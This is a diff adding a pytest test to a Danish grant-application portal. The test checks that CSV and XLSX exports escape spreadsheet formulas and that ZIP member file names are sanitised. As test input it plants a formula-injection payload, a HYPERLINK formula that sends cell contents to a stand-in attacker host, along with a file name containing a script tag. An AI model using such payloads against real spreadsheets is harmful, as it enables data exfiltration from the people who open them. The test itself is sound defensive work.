@@ -236,3 +236,23 @@ def test_reminders_go_to_draft_holders_in_outbox(admin_client, app, db: Session,
 def test_audit_page_reports_intact_chain(admin_client) -> None:
     page = admin_client.get("/admin/revisionslog").get_data(as_text=True)
     assert "Kæden er ubrudt" in page and "login.succeeded" in page
+
+
+def test_exports_neutralise_formulas_and_zip_names(
+    admin_client, app, db: Session, make_user
+) -> None:
+    from portal.exports import safe_member_name
+
+    call = open_call(db)
+    signer = make_user(Role.SIGNATORY, "HK")
+    application = complete_application(db, call, signer)
+    application.contact_name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    applications.submit(db, signer, application, None)
+    db.commit()
+    csv_text = admin_client.get(f"/admin/runder/{call.id}/eksport.csv").data.decode("utf-8-sig")
+    assert ";\"'=HYPERLINK(" in csv_text
+    sheet = load_workbook(
+        io.BytesIO(admin_client.get(f"/admin/runder/{call.id}/eksport.xlsx").data)
+    ).active
+    assert sheet["L2"].data_type == "s" and sheet["L2"].value.startswith("'=")
+    assert safe_member_name("1-=evil<script>;:*?.pdf") == "1-=evil_script_;___.pdf"
